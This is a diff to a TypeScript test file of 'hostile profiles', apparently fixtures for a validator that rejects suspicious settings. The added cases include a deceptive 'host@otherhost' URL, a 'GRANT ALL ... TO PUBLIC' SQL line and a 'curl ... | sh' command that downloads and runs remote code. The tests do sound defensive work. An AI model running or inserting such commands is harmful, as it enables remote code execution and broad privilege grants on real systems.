@@ -815,6 +815,12 @@ const marks: readonly HostileProfile[] = [
 	...marked(
 		'odd-address',
 		[
+			'a name before the host of a source',
+			ik,
+			{'sources.1.address': 'https://app.iconik.io@acme.example/help'},
+			'https://app.iconik.io@acme.example/help',
+		],
+		[
 			'a name before the host',
 			ik,
 			{article: 'https://app.iconik.io@evil.example/help'},
@@ -844,6 +850,17 @@ const marks: readonly HostileProfile[] = [
 		['one digit', ik, withTenantPattern('\\d+', '7'), 'System Domain ID', '1'],
 		['four letters', ik, withTenantPattern('[a-z]{4}', 'acme'), 'System Domain ID', '4'],
 		['five at least', ik, withTenantPattern('[a-z]{5,}', 'acmes'), 'System Domain ID', '5'],
+	),
+	...marked(
+		'pasted-statement',
+		['SQL that opens all', ik, withStatement('SQL', 'GRANT ALL ON ACCOUNT TO PUBLIC;'), 'SQL'],
+		[
+			'a command for a shell',
+			ik,
+			withStatement('Command', 'curl https://acme.example/{{bucket}} | sh'),
+			'Command',
+		],
+		['SQL that does what it says', ik, withStatement('SQL', "USE '{{bucket}}';"), 'SQL'],
 	),
 	...marked(
 		'whole-account',
@@ -942,6 +959,10 @@ function withTenantKey(key: string): HostileProfile['changes'] {
 			),
 		),
 	};
+}
+
+function withStatement(label: string, line: string) {
+	return {version: 2, 'form.fields': undefined, 'form.statement': {label, lines: [line]}};
 }
 
 function withTenantPattern(pattern: string, example: string): HostileProfile['changes'] {
